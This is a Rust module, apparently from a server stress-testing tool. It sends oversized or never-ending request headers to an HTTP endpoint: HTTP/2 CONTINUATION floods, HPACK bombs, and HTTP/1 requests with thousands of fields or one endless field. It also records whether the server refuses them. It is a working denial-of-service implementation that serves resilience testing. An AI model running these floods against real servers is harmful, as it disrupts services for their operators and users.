//! Heads of requests that do not end or are far too large: over HTTP/1, and over HTTP/2, where they may be small on the wire
//! (CVE-2024-27316, and the "HPACK bomb" CVE-2016-6581).

use std::cell::Cell;
use std::io;
use std::rc::Rc;
use std::time::Duration;

use tokio::io::{AsyncReadExt, AsyncWriteExt, split};
use tokio::task::spawn_local;
use tokio::time::{sleep, timeout};

use super::dial::{Buffer, Door, SERVER_NAME};
use super::floods::watch;
use super::http2::{self, CONTINUATION, END_HEADERS, END_STREAM, HEADERS};
use super::tally::{Attack, Attacker, Pace};

const CONNECTIONS: usize = 2;
/// Pieces of heads, of 8 kB each.
const PIECES_PER_SECOND: u32 = 2_000;
const PIECE: usize = 8_000;
const BACK_AFTER: Duration = Duration::from_millis(50);
/// A node that goes on reading a head of so many pieces has no limit.
const PIECES_MAX: usize = 10_000;
/// What the dynamic table holds at most, less what an entry costs.
const REMEMBERED: usize = 3_900;

/// What is too large.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Head {
    Continued,
    Bomb,
    ManyFields,
    EndlessField,
}

impl Head {
    const ALL: [Self; 4] = [Self::Continued, Self::Bomb, Self::ManyFields, Self::EndlessField];

    const fn sent(self) -> &'static str {
        match self {
            Self::Continued => "CONTINUATION",
            Self::Bomb => "HPACK bombs",
            Self::ManyFields => "pieces of many fields",
            Self::EndlessField => "pieces of an endless field",
        }
    }

    const fn ended(self) -> &'static str {
        match self {
            Self::Continued => "CONTINUATION ended",
            Self::Bomb => "bombs ended",
            Self::ManyFields => "many fields ended",
            Self::EndlessField => "endless field ended",
        }
    }
}

/// What is counted when a head was refused, for each.
pub(super) const ENDED: [&str; 4] =
    [Head::Continued.ended(), Head::Bomb.ended(), Head::ManyFields.ended(), Head::EndlessField.ended()];

/// All of them side by side.
pub(super) fn too_large(attacker: Rc<Attacker>) -> Attack {
    Box::pin(async move {
        for head in Head::ALL {
            let pace = Pace::per_second(PIECES_PER_SECOND);
            for _ in 0..CONNECTIONS {
                let (attacker, pace) = (Rc::clone(&attacker), Rc::clone(&pace));
                drop(spawn_local(async move {
                    while !attacker.is_over() {
                        let ended = match head {
                            Head::Continued | Head::Bomb => two(&attacker, head, &pace).await,
                            Head::ManyFields | Head::EndlessField => one(&attacker, head, &pace).await,
                        };
                        match ended {
                            Ok(Ended::ByNode) => attacker.seen(head.ended(), 1),
                            Ok(Ended::ByUs) => attacker.seen("taken to the end", 1),
                            Err(_) => attacker.seen("not connected", 1),
                        }
                        sleep(BACK_AFTER).await;
                    }
                }));
            }
        }
        attacker.end().await;
    })
}

enum Ended {
    ByNode,
    ByUs,
}

async fn two(attacker: &Rc<Attacker>, head: Head, pace: &Pace) -> io::Result<Ended> {
    let (reader, mut writer) = split(attacker.dialer.open(Door::Http2, Buffer::Usual).await?);
    let ended = Rc::new(Cell::new(false));
    let watching = spawn_local(watch(reader, Rc::clone(attacker), "calmed", Rc::clone(&ended)));
    let mut out = http2::hello(&[]);
    let get = http2::get("/http-bind?room=heads");
    let mut by_node = false;
    match head {
        Head::Bomb => {
            // One field enters the table; then each byte is that field again.
            let mut block = get;
            http2::remembered(&mut block, "x-bomb", &"b".repeat(REMEMBERED));
            block.resize(16_000, 0xbe);
            for stream in (1..200).step_by(2) {
                http2::push(&mut out, HEADERS, END_HEADERS | END_STREAM, stream, &block);
                pace.take(2).await;
                if ended.get() || writer.write_all(&out).await.is_err() || writer.flush().await.is_err() {
                    by_node = true;
                    break;
                }
                out.clear();
                attacker.sent(head.sent(), 1);
            }
        }
        Head::Continued | Head::ManyFields | Head::EndlessField => {
            http2::push(&mut out, HEADERS, END_STREAM, 1, &get);
            let mut block = Vec::new();
            for field in 0..PIECE / 40 {
                http2::new_name(&mut block, &format!("x-continued-{field:05}"), "0123456789012345");
            }
            for _ in 0..PIECES_MAX {
                http2::push(&mut out, CONTINUATION, 0, 1, &block);
                pace.take(1).await;
                if ended.get() || writer.write_all(&out).await.is_err() || writer.flush().await.is_err() {
                    by_node = true;
                    break;
                }
                out.clear();
                attacker.sent(head.sent(), 1);
            }
        }
    }
    // What the node had said before it closed is still to be read; a bomb may be refused without the connection.
    timeout(BACK_AFTER * 4, watching).await.ok();
    Ok(if by_node || ended.get() || head == Head::Bomb { Ended::ByNode } else { Ended::ByUs })
}

async fn one(attacker: &Attacker, head: Head, pace: &Pace) -> io::Result<Ended> {
    let (mut reader, mut writer) = split(attacker.dialer.open(Door::Plain, Buffer::Usual).await?);
    let begin = format!("GET /http-bind?room=heads HTTP/1.1\r\nHost: {SERVER_NAME}\r\n");
    let piece = match head {
        Head::ManyFields => "X-Many: 0123456789012345678901\r\n".repeat(PIECE / 32),
        Head::EndlessField | Head::Continued | Head::Bomb => "e".repeat(PIECE),
    };
    writer.write_all(begin.as_bytes()).await?;
    if head == Head::EndlessField {
        writer.write_all(b"X-Endless: ").await?;
    }
    let reading = async {
        let mut answer = [0; 256];
        let read = reader.read(&mut answer).await.unwrap_or(0);
        attacker.seen(
            match &answer[..read] {
                [] => "closed without a word",
                answer if answer.starts_with(b"HTTP/1.1 431 ") => "431",
                answer if answer.starts_with(b"HTTP/1.1 400 ") => "400",
                _ => "another answer",
            },
            1,
        );
    };
    let writing = async {
        for _ in 0..PIECES_MAX {
            pace.take(1).await;
            if writer.write_all(piece.as_bytes()).await.is_err() {
                return std::future::pending().await;
            }
            attacker.sent(head.sent(), 1);
        }
    };
    tokio::select! {
        // What it says counts before what it does not take.
        biased;
        () = reading => Ok(Ended::ByNode),
        () = writing => Ok(Ended::ByUs),
    }
}
